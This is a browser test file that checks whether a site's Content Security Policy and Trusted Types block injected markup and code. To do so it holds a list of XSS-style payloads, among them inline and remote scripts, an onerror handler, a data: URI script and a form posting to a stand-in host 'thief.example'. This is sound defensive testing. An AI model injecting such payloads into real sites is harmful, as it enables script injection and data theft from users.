import type { Page } from "@playwright/test";
import { expect, test } from "../support/test.ts";

/*
 * What the security policy blocks in a browser. delivery.spec.ts holds its text. Every browser test proves that the site
 * itself does not violate it, because a violation in the console fails the test.
 */

/** Collects the page's policy violations. */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const violations: string[] = [];
    addEventListener("securitypolicyviolation", (event) =>
      violations.push(`${event.violatedDirective} ${event.blockedURI}`),
    );
    Object.assign(globalThis, { violations });
  });
  return () => page.evaluate(() => (globalThis as unknown as { violations: string[] }).violations);
}

/** Returns the global variables that injected code would set. */
const ran = (page: Page) =>
  page.evaluate(() => Object.keys(window).filter((name) => name.startsWith("injected")));

/** Each part with the violation that it must cause. */
const injections: Readonly<Record<string, string>> = {
  "<script>window.injectedScript = true</script>": "script-src-elem inline",
  '<img src="/missing.png" onerror="window.injectedHandler = true" alt="">': "script-src-attr inline",
  '<script src="https://tracker.example/a.js"></script>': "script-src-elem https://tracker.example/a.js",
  '<script src="data:text/javascript,window.injectedData=true"></script>': "script-src-elem data",
  '<iframe src="https://frame.example/"></iframe>': "frame-src https://frame.example",
  '<object data="https://object.example/"></object>': "object-src https://object.example",
  '<base href="https://base.example/">': "base-uri https://base.example",
  "<style>body { background: red }</style>": "style-src-elem inline",
  '<link rel="stylesheet" href="https://style.example/a.css">': "style-src-elem https://style.example/a.css",
  '<p style="color: red">styled</p>': "style-src-attr inline",
  '<img src="https://pixel.example/a.png" alt="">': "img-src https://pixel.example/a.png",
  '<form id="injected" action="https://thief.example/" method="post"><input name="a"></form>':
    "form-action https://thief.example",
};

test.describe("what a page did not bring itself", () => {
  // The browser's console names what it blocks.
  test.use({ expectedErrors: /Content Security Policy|ERR_BLOCKED|^csp|404|Trusted/i });

  test("does not run, load, frame, style or send when injected into the HTML", async ({ page, baseURL }) => {
    const violations = await watchViolations(page);
    const markup = Object.keys(injections).join("");
    await page.route(
      "/contact",
      async (route) => {
        const response = await route.fetch();
        const body = (await response.text()).replace("</body>", `${markup}</body>`);
        await route.fulfill({ response, body });
      },
      // Only the page itself: its links request the same URL later.
      { times: 1 },
    );
    await page.goto("/contact");
    await page.locator("#injected").evaluate((form: HTMLFormElement) => form.submit());
    for (const violation of Object.values(injections)) {
      await expect
        .poll(async () => (await violations()).filter((line) => line.startsWith(violation)), violation)
        .not.toEqual([]);
    }
    expect(await ran(page)).toEqual([]);
    expect(page.url()).toBe(`${baseURL}/contact`);
  });

  test("does not become code or markup later, unlike structured data and scripts of this site", async ({
    page,
  }) => {
    await page.goto("/contact");
    const allowed = await page.evaluate(async () => {
      // In a task of its own, because the policy does not apply to the test's own call.
      await new Promise((resolve) => setTimeout(resolve));
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => void };
      };
      const script = () => document.createElement("script");
      const attempts = {
        innerHTML: () => Object.assign(document.body, { innerHTML: "<b>foreign</b>" }),
        fragment: () => document.createRange().createContextualFragment("<b>foreign</b>"),
        "document.write": () => document.write("<b>foreign</b>"),
        "script URL": () => Object.assign(script(), { src: "https://tracker.example/a.js" }),
        "script text": () => Object.assign(script(), { textContent: "window.injectedText = true" }),
        Function: () => new Function("window.injectedFunction = true")(),
        srcdoc: () => Object.assign(document.createElement("iframe"), { srcdoc: "<b>foreign</b>" }),
        "structured data": () => Object.assign(script(), { innerHTML: '{"name": "\\u003cb>"}' }),
        "own script": () => Object.assign(script(), { src: "/_next/static/chunks/a.js" }),
        "second policy": () => trustedTypes.createPolicy("mine", {}),
      };
      return Object.entries(attempts).flatMap(([name, attempt]) => {
        try {
          attempt();
          return [name];
        } catch {
          return [];
        }
      });
    });
    expect(allowed).toEqual(["structured data", "own script"]);
    expect(await ran(page)).toEqual([]);
  });
});
